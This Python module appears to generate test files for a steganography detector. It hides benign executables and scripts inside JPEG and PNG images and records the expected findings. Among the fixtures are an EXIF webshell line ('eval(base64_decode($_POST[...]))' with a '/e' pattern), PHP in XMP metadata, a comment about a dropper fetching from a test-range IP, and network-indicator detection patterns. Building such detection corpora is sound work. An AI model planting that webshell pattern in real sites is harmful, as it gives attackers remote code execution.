"""Executable and script payloads for the StegCarve corpus: Windows PE (built with MinGW),
hand-built Mach-O (thin and fat) and scripts, placed in pictures the way campaigns hid them.

Called from generate.py (`gen_executables.generate(corpus, images, generate_module)`); it
reuses generate.py's helpers and its Corpus object, and writes only Corpus/payload/*-pe-*,
*-macho-* and *-script-* files plus their manifest entries.

Requirements (Debian 12):

    apt-get install -y gcc-mingw-w64-x86-64 gcc-mingw-w64-i686

Every expected length, digest and metadata value is computed here from the bytes written,
by parsers independent of the Swift code (and, for PE, checked against objdump -p/-f).
"""

from __future__ import annotations

import hashlib
import re
import struct
import zlib
from pathlib import Path
from types import ModuleType

MINGW_HINT = "apt-get install -y gcc-mingw-w64-x86-64 gcc-mingw-w64-i686"

# name -> (compiler, extra link flags, description)
PE_BUILDS = {
    "hello-win-x86_64": ("x86_64-w64-mingw32-gcc", ["-s"],
                         "src/hello_win.c, x86_64-w64-mingw32-gcc -O2 -s, PE32+ console executable"),
    "hello-win-i686": ("i686-w64-mingw32-gcc", ["-Wl,--strip-debug"],
                       "src/hello_win.c, i686-w64-mingw32-gcc -O2 -Wl,--strip-debug, PE32 console "
                       "executable that keeps its COFF symbol and string tables after the last section"),
}

PE_MACHINES = {0x14C: "x86", 0x8664: "x86-64", 0xAA64: "ARM64", 0x1C0: "ARM", 0x1C4: "ARMv7", 0x200: "IA-64"}
PE_SUBSYSTEMS = {2: "windows-gui", 3: "windows-console"}
OBJDUMP_SUBSYSTEMS = {"Windows GUI": 2, "Windows CUI": 3}


# ----------------------------------------------------------------------- PE

def pe_parse(b: bytes) -> dict:
    """Independent PE parser: the true size (headers, section raw data, COFF symbol +
    string table, certificate table) and the header fields the manifest expects."""
    if b[:2] != b"MZ":
        raise ValueError("no MZ")
    (lfanew,) = struct.unpack_from("<I", b, 0x3C)
    if b[lfanew:lfanew + 4] != b"PE\0\0":
        raise ValueError("no PE signature")
    machine, nsect, stamp, symptr, nsyms, optsize, chars = struct.unpack_from("<HHIIIHH", b, lfanew + 4)
    opt = lfanew + 24
    (magic,) = struct.unpack_from("<H", b, opt)
    wide = magic == 0x20B
    entry = struct.unpack_from("<I", b, opt + 16)[0]
    image_base = struct.unpack_from("<Q", b, opt + 24)[0] if wide else struct.unpack_from("<I", b, opt + 28)[0]
    size_of_headers = struct.unpack_from("<I", b, opt + 60)[0]
    subsystem = struct.unpack_from("<H", b, opt + 68)[0]
    ndirs = struct.unpack_from("<I", b, opt + (108 if wide else 92))[0]
    dirs_at = opt + (112 if wide else 96)
    dirs = [struct.unpack_from("<II", b, dirs_at + 8 * k) for k in range(min(ndirs, 16))]
    end = max(size_of_headers, opt + optsize + 40 * nsect)
    for k in range(nsect):
        _, _, raw_size, raw_ptr = struct.unpack_from("<IIII", b, opt + optsize + 40 * k + 8)
        if raw_size and raw_ptr:
            end = max(end, raw_ptr + raw_size)
    if symptr and nsyms:
        sym_end = symptr + 18 * nsyms
        (strsize,) = struct.unpack_from("<I", b, sym_end)
        end = max(end, sym_end + max(strsize, 4))
    cert = dirs[4] if len(dirs) > 4 and dirs[4][1] else None
    if cert:
        end = max(end, cert[0] + cert[1])
    clr = dirs[14] if len(dirs) > 14 else (0, 0)
    return {
        "size": end,
        "metadata": {
            "class": "PE32+" if wide else "PE32",
            "machine": PE_MACHINES[machine],
            "subsystem": PE_SUBSYSTEMS[subsystem],
            "timestamp": stamp,
            "isDLL": bool(chars & 0x2000),
            "sections": nsect,
            "entryPoint": entry,
            "imageBase": image_base,
            "hasCertificate": cert is not None,
            "isDotNet": clr[0] != 0 and clr[1] != 0,
        },
    }


def pe_check_objdump(g: ModuleType, path: Path, meta: dict) -> None:
    """objdump -p / -f must agree with pe_parse on every metadata field it shows."""
    tool = "x86_64-w64-mingw32-objdump"
    p = g.run([tool, "-p", str(path)], what=tool)
    f = g.run([tool, "-f", str(path)], what=tool)

    def field(label: str) -> str:
        m = re.search(rf"^{re.escape(label)}\s+(.*?)\s*$", p, re.M)
        if not m:
            g.die(f"objdump -p {path}: no {label}")
        return m.group(1)

    checks = {
        "class": field("Magic").split("(")[1].rstrip(")"),
        "entryPoint": int(field("AddressOfEntryPoint"), 16),
        "imageBase": int(field("ImageBase"), 16),
        "subsystem": PE_SUBSYSTEMS[OBJDUMP_SUBSYSTEMS[field("Subsystem").split("(")[1].rstrip(")")]],
        "machine": "x86-64" if "i386:x86-64" in f else "x86",
        "hasCertificate": int(re.search(r"^Entry 4 \S+ (\S+)", p, re.M).group(1), 16) != 0,
    }
    for key, value in checks.items():
        if meta[key] != value:
            g.die(f"{path}: objdump says {key}={value!r}, pe_parse says {meta[key]!r}")


def build_pes(g: ModuleType) -> dict[str, bytes]:
    """Build src/hello_win.c with MinGW, reproducibly (no timestamp, fixed seeds and paths)."""
    g.require_tools([v[0] for v in PE_BUILDS.values()] + ["x86_64-w64-mingw32-objdump"], MINGW_HINT)
    build = g.WORK / "build-pe"
    build.mkdir(parents=True)
    (build / "hello_win.c").write_bytes((g.SRC / "hello_win.c").read_bytes())
    out = {}
    for name, (cc, ldextra, _) in PE_BUILDS.items():
        cflags = ["-O2", "-g0", f"-ffile-prefix-map={build}=.", f"-frandom-seed={name}"]
        g.run([cc, *cflags, "-c", "hello_win.c", "-o", f"{name}.o"], cwd=build, what=cc)
        g.run([cc, f"{name}.o", "-o", f"{name}.exe", "-Wl,--no-insert-timestamp", *ldextra], cwd=build, what=cc)
        data = (build / f"{name}.exe").read_bytes()
        info = pe_parse(data)
        if info["size"] != len(data):
            g.die(f"{name}.exe: true PE size {info['size']} != file size {len(data)}")
        pe_check_objdump(g, build / f"{name}.exe", info["metadata"])
        out[name] = data
    return out


def pe_with_certificate_table(pe: bytes) -> bytes:
    """The PE plus a certificate table: one WIN_CERTIFICATE (revision 0x0200, type
    PKCS_SIGNED_DATA) holding a fake DER blob, 8-byte aligned after the last byte, with data
    directory 4 pointing at it. Structurally an Authenticode table; cryptographically nothing."""
    (lfanew,) = struct.unpack_from("<I", pe, 0x3C)
    opt = lfanew + 24
    wide = struct.unpack_from("<H", pe, opt)[0] == 0x20B
    body = pe + b"\0" * (-len(pe) % 8)
    blob = b"\x30\x82\x00\x3c" + b"StegCarve corpus: not a real signature".ljust(60, b"\0")
    cert = struct.pack("<IHH", 8 + len(blob), 0x0200, 0x0002) + blob
    cert += b"\0" * (-len(cert) % 8)
    at = opt + (112 if wide else 96) + 8 * 4
    out = bytearray(body + cert)
    out[at:at + 8] = struct.pack("<II", len(body), len(cert))
    return bytes(out)


# ------------------------------------------------------------------- Mach-O

MACHO_CPUS = {"x86-64": 0x01000007, "ARM64": 0x0100000C, "x86": 7, "PowerPC": 18, "PowerPC64": 0x01000012}
MACHO_CODE = {  # exit(0) through the BSD system call, per CPU
    "x86-64": bytes.fromhex("b801000002" "31ff" "0f05"),
    "ARM64": struct.pack("<3I", 0xD2800000, 0xD2800030, 0xD4001001),
    "PowerPC": struct.pack(">3I", 0x38000001, 0x38600000, 0x44000002),
}
MACHO_SUBTYPES = {"x86-64": 3, "ARM64": 0, "x86": 3, "PowerPC": 0, "PowerPC64": 0}  # *_ALL
MACHO_FILETYPES = {1: "object", 2: "execute", 6: "dylib", 8: "bundle"}


def build_macho(cpu: str, is64: bool, big: bool, signed: bool) -> bytes:
    """A small MH_EXECUTE: __PAGEZERO (64-bit), __TEXT (__text, __cstring), __LINKEDIT,
    LC_SYMTAB, LC_DYSYMTAB, LC_LOAD_DYLINKER, LC_MAIN (64-bit), LC_LOAD_DYLIB,
    LC_FUNCTION_STARTS and, when `signed`, LC_CODE_SIGNATURE with an empty SuperBlob.
    Link-edit data: function starts, symbols, strings, signature; __LINKEDIT covers it all."""
    bo = ">" if big else "<"
    ptr = "Q" if is64 else "I"
    seg_cmd, seg_base, sect_size = (0x19, 72, 80) if is64 else (0x1, 56, 68)
    align = 8 if is64 else 4
    code = MACHO_CODE[cpu]
    cstring = f"StegCarve corpus: benign Mach-O for {cpu}, exits 0.\0".encode()

    def lc_str(cmd: int, fixed: bytes, name: str) -> bytes:
        raw = name.encode() + b"\0"
        size = -(-(8 + len(fixed) + len(raw)) // align) * align
        return (struct.pack(bo + "II", cmd, size) + fixed + raw).ljust(size, b"\0")

    def segment(name, vmaddr, vmsize, fileoff, filesize, sections):
        body = struct.pack(bo + "II16s" + ptr * 4 + "iiII", seg_cmd, seg_base + sect_size * len(sections),
                           name.encode(), vmaddr, vmsize, fileoff, filesize, 7, 5, len(sections), 0)
        for sname, addr, size, off in sections:
            if is64:
                body += struct.pack(bo + "16s16sQQIIIIIIII", sname.encode(), name.encode(), addr, size, off,
                                    4, 0, 0, 0x80000400 if sname == "__text" else 2, 0, 0, 0)
            else:
                body += struct.pack(bo + "16s16sIIIIIIIII", sname.encode(), name.encode(), addr, size, off,
                                    2, 0, 0, 0x80000400 if sname == "__text" else 2, 0, 0)
        return body

    def layout(sizeofcmds: int) -> tuple[bytes, list[bytes]]:
        header_size = 32 if is64 else 28
        text_off = -(-(header_size + sizeofcmds) // 16) * 16
        cstr_off = text_off + len(code)
        text_end = -(-(cstr_off + len(cstring)) // 16) * 16
        base = 0x100000000 if is64 else 0x1000
        fstarts_off = text_end
        fstarts = bytes([text_off & 0x7F | 0x80, text_off >> 7, 0, 0, 0, 0, 0, 0])
        sym_off = fstarts_off + len(fstarts)
        nlist = (struct.pack(bo + "IBBHQ", 1, 0x0F, 1, 0, base + text_off) if is64
                 else struct.pack(bo + "IBBHI", 1, 0x0F, 1, 0, base + text_off))
        strings = b" \0_main\0".ljust(8 if is64 else 12, b"\0")
        str_off = sym_off + len(nlist)
        sig_off = -(-(str_off + len(strings)) // 16) * 16
        sig = struct.pack(">III", 0xFADE0CC0, 12, 0).ljust(16, b"\0") if signed else b""
        linkedit_end = (sig_off + len(sig)) if signed else str_off + len(strings)
        cmds = []
        if is64:
            cmds.append(segment("__PAGEZERO", 0, base, 0, 0, []))
        cmds.append(segment("__TEXT", base, 0x4000, 0, text_end,
                            [("__text", base + text_off, len(code), text_off),
                             ("__cstring", base + cstr_off, len(cstring), cstr_off)]))
        cmds.append(segment("__LINKEDIT", base + 0x4000, 0x4000, fstarts_off, linkedit_end - fstarts_off, []))
        cmds.append(struct.pack(bo + "6I", 0x2, 24, sym_off, 1, str_off, len(strings)))
        cmds.append(struct.pack(bo + "20I", 0xB, 80, 0, 0, 0, 1, 1, 0, *([0] * 12)))
        cmds.append(lc_str(0xE, struct.pack(bo + "I", 12), "/usr/lib/dyld"))
        if is64:
            cmds.append(struct.pack(bo + "IIQQ", 0x80000028, 24, text_off, 0))
        cmds.append(lc_str(0xC, struct.pack(bo + "IIII", 24, 2, 0x05276403, 0x00010000), "/usr/lib/libSystem.B.dylib"))
        cmds.append(struct.pack(bo + "4I", 0x26, 16, fstarts_off, len(fstarts)))
        if signed:
            cmds.append(struct.pack(bo + "4I", 0x1D, 16, sig_off, len(sig)))
        body = bytearray(header_size + sizeofcmds)
        magic = 0xFEEDFACF if is64 else 0xFEEDFACE
        hdr = struct.pack(bo + "7I", magic, MACHO_CPUS[cpu], MACHO_SUBTYPES[cpu], 2, len(cmds), sum(map(len, cmds)), 0x00200085)
        if is64:
            hdr += b"\0" * 4
        body[:header_size] = hdr
        body[header_size:] = b"".join(cmds)
        out = bytearray(body)
        out += b"\0" * (text_off - len(out)) + code + cstring
        out += b"\0" * (text_end - len(out)) + fstarts + nlist + strings
        if signed:
            out += b"\0" * (sig_off - len(out)) + sig
        return bytes(out), cmds

    _, cmds = layout(0)
    out, cmds2 = layout(sum(map(len, cmds)))
    assert sum(map(len, cmds)) == sum(map(len, cmds2))
    return out


def macho_parse(b: bytes) -> dict:
    """Independent thin Mach-O parser: the true size from the header, sizeofcmds, segments,
    sections and link-edit commands, and the metadata the manifest expects."""
    magic_le = struct.unpack_from("<I", b, 0)[0]
    kinds = {0xFEEDFACE: (False, "<"), 0xFEEDFACF: (True, "<"), 0xCEFAEDFE: (False, ">"), 0xCFFAEDFE: (True, ">")}
    is64, bo = kinds[magic_le]
    cpu, _, ftype, ncmds, sizeofcmds, _ = struct.unpack_from(bo + "iiIIII", b, 4)
    hsize = 32 if is64 else 28
    end = hsize + sizeofcmds
    off = hsize
    signed = False
    for _ in range(ncmds):
        cmd, size = struct.unpack_from(bo + "II", b, off)
        if cmd in (0x1, 0x19):
            w = cmd == 0x19
            fo, fs = struct.unpack_from(bo + ("QQ" if w else "II"), b, off + (40 if w else 32))
            if fs:
                end = max(end, fo + fs)
        elif cmd == 0x2:
            so, ns, sto, sts = struct.unpack_from(bo + "4I", b, off + 8)
            end = max(end, so + ns * (16 if is64 else 12), sto + sts)
        elif cmd in (0x1D, 0x1E, 0x26, 0x29, 0x2B, 0x2E, 0x80000033, 0x80000034):
            do, ds = struct.unpack_from(bo + "II", b, off + 8)
            if ds:
                end = max(end, do + ds)
            signed = signed or cmd == 0x1D
        off += size
    name = {v: k for k, v in MACHO_CPUS.items()}[cpu]
    return {"size": end, "metadata": {
        "fat": False, "cpu": name, "class": 64 if is64 else 32, "endian": "little" if bo == "<" else "big",
        "fileType": MACHO_FILETYPES[ftype], "ncmds": ncmds, "hasCodeSignature": signed}}


def build_fat(slices: list[tuple[str, bytes]], align: int = 12) -> bytes:
    """FAT_MAGIC + fat_arch entries (big-endian), slices aligned to 2**align as lipo does."""
    n = len(slices)
    offsets, pos = [], 8 + 20 * n
    for _, data in slices:
        pos = -(-pos // (1 << align)) * (1 << align)
        offsets.append(pos)
        pos += len(data)
    out = bytearray(struct.pack(">II", 0xCAFEBABE, n))
    for (cpu, data), off in zip(slices, offsets):
        out += struct.pack(">iiIII", MACHO_CPUS[cpu], MACHO_SUBTYPES[cpu], off, len(data), align)
    for (_, data), off in zip(slices, offsets):
        out += b"\0" * (off - len(out)) + data
    return bytes(out)


def check_file_tool(g: ModuleType, data: bytes, expect: str) -> None:
    """file(1) must recognise what was built (a second, independent opinion on the magic)."""
    tmp = g.WORK / "macho-check.bin"
    tmp.write_bytes(data)
    out = g.run(["file", "-b", str(tmp)], what="file")
    if expect not in out:
        g.die(f"file(1) says {out.strip()!r}, expected {expect!r}")


# ----------------------------------------------------------------- bytecode

def build_java_class() -> bytes:
    """A runnable Java 8 class file: `public class StegCarveHello` whose main prints one
    line (getstatic System.out, ldc, invokevirtual println, return); no branches, so no
    StackMapTable is needed."""
    pool: list[bytes] = []

    def add(entry: bytes) -> int:
        pool.append(entry)
        return len(pool)

    def utf8(text: str) -> int:
        raw = text.encode()
        return add(b"\x01" + struct.pack(">H", len(raw)) + raw)

    def cls(name: str) -> int:
        return add(b"\x07" + struct.pack(">H", utf8(name)))

    def nat(name: str, desc: str) -> int:
        return add(b"\x0c" + struct.pack(">HH", utf8(name), utf8(desc)))

    this = cls("StegCarveHello")
    sup = cls("java/lang/Object")
    out = add(b"\x09" + struct.pack(">HH", cls("java/lang/System"), nat("out", "Ljava/io/PrintStream;")))
    msg = add(b"\x08" + struct.pack(">H", utf8("StegCarve corpus: benign Java class.")))
    println = add(b"\x0a" + struct.pack(">HH", cls("java/io/PrintStream"), nat("println", "(Ljava/lang/String;)V")))
    main, main_desc, code = utf8("main"), utf8("([Ljava/lang/String;)V"), utf8("Code")
    source, source_file = utf8("SourceFile"), utf8("StegCarveHello.java")
    insns = b"\xb2" + struct.pack(">H", out) + b"\x12" + bytes([msg]) + b"\xb6" + struct.pack(">H", println) + b"\xb1"
    code_attr = struct.pack(">HHI", 2, 1, len(insns)) + insns + struct.pack(">HH", 0, 0)
    method = struct.pack(">HHHH", 0x0009, main, main_desc, 1) + struct.pack(">HI", code, len(code_attr)) + code_attr
    return (b"\xca\xfe\xba\xbe" + struct.pack(">HHH", 0, 52, len(pool) + 1) + b"".join(pool)
            + struct.pack(">HHHHHH", 0x0021, this, sup, 0, 0, 1) + method
            + struct.pack(">HHIH", 1, source, 2, source_file))


def java_class_size(b: bytes) -> int:
    """Independent walk of a class file to its end (JVMS 4.1)."""
    pos = 10
    n = struct.unpack_from(">H", b, 8)[0]
    k = 1
    sizes = {3: 4, 4: 4, 5: 8, 6: 8, 7: 2, 8: 2, 9: 4, 10: 4, 11: 4, 12: 4, 15: 3, 16: 2, 17: 4, 18: 4, 19: 2, 20: 2}
    while k < n:
        tag = b[pos]
        pos += 1
        if tag == 1:
            pos += 2 + struct.unpack_from(">H", b, pos)[0]
        else:
            pos += sizes[tag]
        k += 2 if tag in (5, 6) else 1
    pos += 6
    pos += 2 + 2 * struct.unpack_from(">H", b, pos)[0]

    def attrs(p: int) -> int:
        cnt = struct.unpack_from(">H", b, p)[0]
        p += 2
        for _ in range(cnt):
            p += 6 + struct.unpack_from(">I", b, p + 2)[0]
        return p

    for _ in range(2):  # fields, methods
        cnt = struct.unpack_from(">H", b, pos)[0]
        pos += 2
        for _ in range(cnt):
            pos = attrs(pos + 6)
    return attrs(pos)


def build_dex() -> bytes:
    """A minimal DEX 035: header, two string ids, their string data, a map list; correct
    SHA-1 signature and Adler-32 checksum. No classes (nothing to run)."""
    strings = [b"StegCarve corpus", b"benign DEX"]
    data = b""
    string_data_offsets = []
    base = 0x70 + 4 * len(strings)
    for s in strings:
        string_data_offsets.append(base + len(data))
        data += bytes([len(s)]) + s + b"\0"
    map_off = base + len(data)
    map_off += -map_off % 4
    entries = [(0x0000, 1, 0), (0x0001, len(strings), 0x70), (0x2002, len(strings), base), (0x1000, 1, map_off)]
    map_list = struct.pack("<I", len(entries)) + b"".join(struct.pack("<HHII", t, 0, n, o) for t, n, o in entries)
    size = map_off + len(map_list)
    header = bytearray(b"dex\n035\0" + b"\0" * 24 + struct.pack("<III", size, 0x70, 0x12345678)
                       + struct.pack("<III", 0, 0, map_off) + struct.pack("<II", len(strings), 0x70)
                       + b"\0" * 40 + struct.pack("<II", size - base, base))
    assert len(header) == 0x70
    body = (bytes(header) + b"".join(struct.pack("<I", o) for o in string_data_offsets) + data).ljust(map_off, b"\0")
    out = bytearray(body + map_list)
    out[12:32] = hashlib.sha1(bytes(out[32:])).digest()
    out[8:12] = struct.pack("<I", zlib.adler32(bytes(out[12:])))
    return bytes(out)


# ------------------------------------------------------------------ findings

URL_RE = re.compile(rb"(?i)(https?|ftp|tcp|udp|stratum\+(tcp|ssl|tls|udp))://[A-Za-z0-9]")
IPV4_RE = re.compile(rb"(?<![0-9.])(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})(?![0-9.])")


def network_labels(payload: bytes) -> list[str]:
    """`network-indicators` when the payload holds a URL or a dotted quad (octets <= 255)."""
    if URL_RE.search(payload):
        return ["network-indicators"]
    for m in IPV4_RE.finditer(payload):
        if all(int(x) <= 255 for x in m.groups()):
            return ["network-indicators"]
    return []


def finding(g: ModuleType, ptype: str, data: bytes, offset: int, payload: bytes, region: str,
            metadata: dict, labels: list[str], declared: int | None = None) -> dict:
    length = len(payload)
    if data[offset:offset + length] != payload:
        g.die(f"{ptype} finding at {offset}: bytes do not match")
    return {
        "type": ptype, "offset": offset, "length": length,
        "sha256": g.sha256(payload),
        "truncated": declared is not None and declared > length,
        "region": region, "metadata": metadata,
        "labels": sorted(set(labels + network_labels(payload))),
    }


# ---------------------------------------------------------------------- main

def generate(c, img: dict[str, bytes], g: ModuleType) -> None:
    print("building src/hello_win.c (MinGW) and assembling executables ...")
    pes = build_pes(g)
    x64, x86 = pes["hello-win-x86_64"], pes["hello-win-i686"]
    signed = pe_with_certificate_table(x64)
    if pe_parse(signed)["size"] != len(signed):
        g.die("certificate table not counted")

    def pe_finding(data, offset, pe, region, declared=None):
        return finding(g, "pe", data, offset, pe, region, pe_parse(pe)["metadata"], ["executable"], declared)

    # PE32+ after a JPEG's EOI (the MyKings "Taylor Swift" picture carried one).
    base = img["jpeg-baseline.jpg"]
    data = base + x64
    c.add_file("payload/jpeg-eoi-pe-x86_64.jpg", "jpeg",
               "MinGW PE32+ x86-64 console hello (src/hello_win.c, stripped) appended after the EOI "
               "of a baseline JPEG", data, len(base), [pe_finding(data, len(base), x64, "overlay")])

    # PE32 with COFF symbols inside a private ancillary PNG chunk.
    data, pos = g.png_insert_before_iend(img["png-palette-trns.png"], g.png_chunk(b"exEc", x86))
    c.add_file("payload/png-chunk-exEc-pe-i686.png", "png",
               "MinGW PE32 x86 console hello with its COFF symbol/string tables (the true end is the "
               "end of the string table, after the last section) as the data of a private 'exEc' "
               "chunk before IEND of a palette PNG", data, len(data),
               [pe_finding(data, pos + 8, x86, "chunk:exEc")])

    # A PE with an overlay: only the PE is the finding, the overlay stays unexplained.
    base = img["jpeg-grayscale.jpg"]
    tail = b"OVRL" + g.junk(1020, "jpeg-eoi-pe-overlay")
    data = base + x64 + tail
    c.add_file("payload/jpeg-eoi-pe-overlay.jpg", "jpeg",
               "PE32+ x86-64 followed by a 1024-byte PE overlay ('OVRL' + pseudo-random bytes), after "
               "the EOI of a grayscale JPEG: only the PE is a finding, so the overlay is not explained",
               data, len(base), [pe_finding(data, len(base), x64, "overlay")])

    # A PE whose certificate table lies after its sections.
    base = img["png-grayscale.png"]
    data = base + signed
    c.add_file("payload/png-iend-pe-certificate.png", "png",
               "PE32+ x86-64 with a certificate table (data directory 4: one WIN_CERTIFICATE, fake "
               "PKCS#7 blob) after its last section, appended after IEND: the finding ends at the end "
               "of the certificate table", data, len(base),
               [pe_finding(data, len(base), signed, "overlay")])

    # A truncated PE: cut in the middle of its last section.
    base = img["png-rgb.png"]
    cut = len(x64) - 300
    data = base + x64[:cut]
    f = finding(g, "pe", data, len(base), x64[:cut], "overlay", pe_parse(x64)["metadata"], ["executable"], len(x64))
    c.add_file("payload/png-iend-pe-truncated.png", "png",
               "PE32+ x86-64 cut 300 bytes before its end, appended after IEND of an RGB PNG: "
               "reported truncated with the bytes that remain", data, len(base), [f])

    # ---- Mach-O
    thin64 = build_macho("x86-64", True, False, signed=True)
    thin32 = build_macho("PowerPC", False, True, signed=False)
    arm64 = build_macho("ARM64", True, False, signed=True)
    for blob in (thin64, thin32, arm64):
        if macho_parse(blob)["size"] != len(blob):
            g.die("hand-built Mach-O: true size differs from the built size")
    fat = build_fat([("x86-64", thin64), ("ARM64", arm64)])
    check_file_tool(g, thin64, "Mach-O 64-bit x86_64 executable")
    check_file_tool(g, thin32, "Mach-O ppc executable")
    check_file_tool(g, fat, "Mach-O universal binary with 2 architectures")

    def macho_finding(data, offset, blob, region, meta):
        return finding(g, "macho", data, offset, blob, region, meta, ["executable"])

    base = img["png-rgba.png"]
    data = base + thin64
    c.add_file("payload/png-iend-macho-x86_64.png", "png",
               "hand-built thin Mach-O 64-bit little-endian x86-64 executable (segments, symtab, "
               "dysymtab, LC_MAIN, function starts, an empty code-signature SuperBlob) appended after "
               "IEND of an RGBA PNG", data, len(base),
               [macho_finding(data, len(base), thin64, "overlay", macho_parse(thin64)["metadata"])])
    base = img["jpeg-optimized.jpg"]
    data = base + thin32
    c.add_file("payload/jpeg-eoi-macho-ppc.jpg", "jpeg",
               "hand-built thin Mach-O 32-bit big-endian PowerPC executable appended after the EOI of "
               "an optimized-Huffman JPEG", data, len(base),
               [macho_finding(data, len(base), thin32, "overlay", macho_parse(thin32)["metadata"])])
    base = img["png-adam7.png"]
    data = base + fat
    fat_meta = {"fat": True, "sliceCount": 2, "architectures": "x86-64,ARM64", "hasCodeSignature": True}
    c.add_file("payload/png-iend-macho-fat.png", "png",
               "hand-built universal (fat) Mach-O with x86-64 and ARM64 slices at 4096-byte aligned "
               "offsets, appended after IEND of an Adam7 PNG; the finding ends at the end of the last slice",
               data, len(base), [macho_finding(data, len(base), fat, "overlay", fat_meta)])

    # ---- scripts
    php = (b"<?php /* StegCarve corpus: inert webshell-shaped text, never served */ "
           b"if (isset($_GET['c'])) { echo htmlspecialchars($_GET['c']); } ?>")
    com = g.jpeg_seg(0xFE, php + b" (comment text after the PHP block)")
    data, pos = g.jpeg_insert(img["jpeg-baseline.jpg"], com)
    c.add_file("payload/jpeg-com-script-php.jpg", "jpeg",
               "PHP block ('<?php ... ?>') at the start of a COM segment, followed by plain comment "
               "text; the finding ends at the closing '?>'", data, len(data),
               [finding(g, "script", data, pos + 4, php, "segment:COM", {"language": "php"}, ["script"])])

    shell = (b"#!/bin/sh\n"
             b"# StegCarve corpus: a benign shell script hidden after IEND; it is never run.\n"
             b"# A dropper would fetch http://198.51.100.23/stage2 here (TEST-NET-2, never contacted).\n"
             b"echo 'hello from a shell script'\n"
             b"exit 0\n")
    base = img["png-rgb16.png"]
    data = base + shell
    c.add_file("payload/png-iend-script-shell.png", "png",
               "shell script with a '#!/bin/sh' line (and a TEST-NET-2 URL in a comment) appended "
               "after IEND of a 16-bit RGB PNG", data, len(base),
               [finding(g, "script", data, len(base), shell, "overlay",
                        {"language": "shell", "interpreter": "/bin/sh"}, ["script"])])

    batch = b"@echo off\nrem StegCarve corpus: benign batch text in a PNG tEXt chunk\necho hello\n"
    data, pos = g.png_insert_before_iend(img["png-grayscale.png"], g.png_chunk(b"tEXt", b"Comment\0" + batch))
    c.add_file("payload/png-text-script-batch.png", "png",
               "Windows batch script ('@echo off') as the text of a tEXt 'Comment' chunk before IEND "
               "of a grayscale PNG", data, len(data),
               [finding(g, "script", data, pos + 8 + 8, batch, "chunk:tEXt", {"language": "batch"}, ["script"])])

    xmp_php = b"<?php echo 'StegCarve corpus: PHP in an XMP field'; ?>"
    packet = g.XMP_PACKET.replace(b"Synthetic gradient; metadata only, no payload.", xmp_php)
    app1 = g.jpeg_seg(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + packet)
    data, pos = g.jpeg_insert(img["jpeg-progressive.jpg"], app1)
    at = data.index(xmp_php)
    c.add_file("payload/jpeg-xmp-script-php.jpg", "jpeg",
               "XMP packet in APP1 whose dc:description holds '<?php ... ?>' (the PHP-webshell-in-"
               "metadata case); the rest of the XMP is not a finding", data, len(data),
               [finding(g, "script", data, at, xmp_php, "segment:APP1:XMP", {"language": "php"}, ["script"])])

    # The classic EXIF webshell: Make carries a preg_replace /e pattern, Model the code it runs.
    model = "eval(base64_decode($_POST['zz'])); /* StegCarve corpus: inert, never served */"
    tiff = b"II*\0" + struct.pack("<I", 8) + g.tiff_ifd("<", 8, [
        (0x010F, "ASCII", "/.*/e"), (0x0110, "ASCII", model)], 0)
    app1 = g.jpeg_seg(0xE1, b"Exif\0\0" + tiff)
    data, pos = g.jpeg_insert(img["jpeg-optimized.jpg"], app1)
    code = b"eval(base64_decode($_POST['zz']));"
    at = data.index(code)
    c.add_file("payload/jpeg-exif-script-eval.jpg", "jpeg",
               "EXIF webshell: Make '/.*/e' and Model 'eval(base64_decode($_POST[...]));' in the "
               "APP1 Exif IFD0; the finding is the eval call up to its ';'", data, len(data),
               [finding(g, "script", data, at, code, "segment:APP1:Exif", {"language": "php"}, ["script"])])

    # ---- bytecode
    java = build_java_class()
    if java_class_size(java) != len(java):
        g.die("Java class: walked size differs from the built size")
    check_file_tool(g, java, "compiled Java class data, version 52.0")
    base = img["jpeg-restart.jpg"]
    data = base + java
    c.add_file("payload/jpeg-eoi-java-class.jpg", "jpeg",
               "hand-built Java 8 class file (StegCarveHello, prints one line) appended after the EOI "
               "of a JPEG with restart markers; the class has no length field, its end is found by "
               "walking the constant pool, members and attributes", data, len(base),
               [finding(g, "java-class", data, len(base), java, "overlay",
                        {"version": "52.0", "className": "StegCarveHello", "methods": 1}, ["executable"])])
    dex = build_dex()
    check_file_tool(g, dex, "Dalvik dex file version 035")
    base = img["png-text-chunks.png"]
    data = base + dex
    c.add_file("payload/png-iend-dex.png", "png",
               "hand-built Android DEX 035 (two strings, map list, real SHA-1 signature and Adler-32 "
               "checksum) appended after IEND of a PNG with text chunks", data, len(base),
               [finding(g, "dex", data, len(base), dex, "overlay",
                        {"version": "035", "fileSize": len(dex), "checksumVerified": True}, ["executable"])])
